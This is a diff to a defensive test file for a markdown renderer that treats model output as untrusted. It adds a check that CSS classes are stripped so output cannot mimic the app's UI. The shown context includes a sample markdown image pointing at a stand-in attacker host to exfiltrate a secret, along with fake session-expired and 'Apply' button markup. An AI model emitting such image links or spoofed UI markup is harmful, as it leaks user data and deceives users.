@@ -33,6 +33,15 @@ describe("renderMarkdown (model output is untrusted)", () => {
   it("drops markdown images (a remote image URL can exfiltrate data)", () => {
     expect(render("![x](https://evil.example/?q=secret)")).not.toMatch(/<img|evil\.example/);
   });
+  it("drops every class but a code block's language, so model output cannot look like Hearth's own UI", () => {
+    const html = render(
+      '<span class="notice error">Hearth: your session expired</span> <b class="code-button">Apply</b>\n\n' +
+        '<code class="hit-link">src/a.ts:1-2</code>\n\n```ts\nx\n```\n',
+    );
+    expect(html).not.toMatch(/notice|code-button|hit-link/);
+    expect(html).toContain("<span>Hearth: your session expired</span>");
+    expect(html).toContain('<code class="language-ts">');
+  });
   it("keeps http(s) links", () => {
     expect(render("[docs](https://example.com/a)")).toContain('<a href="https://example.com/a">docs</a>');
   });
